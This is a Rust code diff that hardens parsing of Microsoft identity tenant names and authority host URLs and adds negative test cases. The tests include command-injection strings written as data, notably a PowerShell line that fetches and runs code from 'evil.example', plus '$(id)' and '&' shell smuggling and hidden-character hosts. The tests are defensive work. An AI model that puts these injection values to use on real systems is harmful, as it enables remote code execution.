@@ -9,7 +9,9 @@ use serde::{Deserialize, Serialize};
 use url::{Host, Url};
 
 use crate::error::{Error, Expected, Result};
+use crate::foreign::is_visible;
 use crate::language::{Text, text};
+use crate::names;
 use crate::scope::Scope;
 
 /// Microsoft's clouds ("National clouds", Microsoft identity platform).
@@ -268,11 +270,14 @@ impl FromStr for Tenant {
     fn from_str(text: &str) -> Result<Self, Self::Err> {
         let tenant = text.trim().to_ascii_lowercase();
         let is_alias = ALIASES.contains(&tenant.as_str());
-        let is_domain = tenant.contains('.')
-            && tenant.split('.').all(|label| !label.is_empty())
-            && Host::parse(&tenant).is_ok_and(|host| matches!(host, Host::Domain(_)));
-        if is_alias || is_guid(&tenant) || is_domain {
+        if is_alias || is_guid(&tenant) {
             return Ok(Self(tenant));
+        }
+        if let Some(Host::Domain(domain)) = names::host(&tenant)
+            && domain.contains('.')
+            && !domain.ends_with('.')
+        {
+            return Ok(Self(domain));
         }
         Err(Expected(text!(
             "expected common, organizations, consumers, the tenant's GUID or one of its domains such as contoso.onmicrosoft.com",
@@ -344,7 +349,12 @@ impl FromStr for AuthorityHost {
         } else {
             format!("https://{text}")
         };
-        let url = Url::parse(&with_scheme).map_err(|_| Expected(expected_https()))?;
+        // A URL is read without the line breaks in it.
+        let url = Url::parse(&with_scheme).ok().filter(|_| is_visible(text));
+        let url = url.ok_or_else(|| Expected(expected_https()))?;
+        if !url.host().is_some_and(|host| names::is_host(&host)) {
+            return Err(Expected(expected_host()));
+        }
         let bare = url.path() == "/" && url.query().is_none() && url.fragment().is_none();
         if !bare || !url.username().is_empty() || url.password().is_some() {
             return Err(Expected(text!(
@@ -353,8 +363,7 @@ impl FromStr for AuthorityHost {
             )));
         }
         match url.scheme() {
-            "https" => {}
-            "http" if is_loopback(&url) => {}
+            _ if is_private(&url) => {}
             "http" => {
                 return Err(Expected(text!(
                     "http is accepted on loopback only; use https",
@@ -365,6 +374,13 @@ impl FromStr for AuthorityHost {
         }
         Ok(Self(url.as_str().trim_end_matches('/').to_owned()))
     }
+}
+
+fn expected_host() -> Text {
+    text!(
+        "expected a host of letters, digits, hyphens and dots, or an IP address",
+        "英数字、ハイフン、ドットだけのホスト名、または IP アドレスを指定してください"
+    )
 }
 
 fn expected_https() -> Text {
@@ -435,6 +451,18 @@ impl Authority {
     fn endpoint(&self, name: &str) -> String {
         format!("{}/{}/oauth2/v2.0/{name}", self.host.0, self.tenant)
     }
+}
+
+/// True for the address of a page: a host, reached so that nobody reads along.
+#[must_use]
+pub fn is_page(url: &Url) -> bool {
+    let has_user = !url.username().is_empty() || url.password().is_some();
+    is_private(url) && !has_user && url.host().is_some_and(|host| names::is_host(&host))
+}
+
+/// True for https, and for http that does not leave this machine.
+fn is_private(url: &Url) -> bool {
+    url.scheme() == "https" || url.scheme() == "http" && is_loopback(url)
 }
 
 /// True for `localhost` and the addresses of the loopback interface.
@@ -585,7 +613,9 @@ mod tests {
             "contoso.onmicrosoft.com",
             "例え.jp",
         ] {
-            assert!(good.parse::<Tenant>().is_ok(), "{good}");
+            let tenant = good.parse::<Tenant>().expect("a tenant");
+            assert!(tenant.as_str().is_ascii(), "{good}");
+            assert_eq!(tenant.as_str().parse(), Ok(tenant.clone()));
         }
         for bad in [
             "",
@@ -597,6 +627,12 @@ mod tests {
             "x.y?z",
             "a..b",
             ".b",
+            "x';iex(irm('evil.example'));'.y",
+            "$(id).example",
+            "a&b.example",
+            "a!b.example",
+            "{a}.example",
+            "-a.example",
         ] {
             assert!(bad.parse::<Tenant>().is_err(), "{bad}");
         }
@@ -628,6 +664,11 @@ mod tests {
             "https://user:pw@login.microsoftonline.com",
             "ftp://localhost",
             "",
+            "https://x';iex(irm('evil.example'));'.y",
+            "https://$(id).example",
+            "https://a&b.example",
+            "https://a\nb.example",
+            "https://a\u{200b}b.example",
         ] {
             assert!(bad.parse::<AuthorityHost>().is_err(), "{bad}");
         }
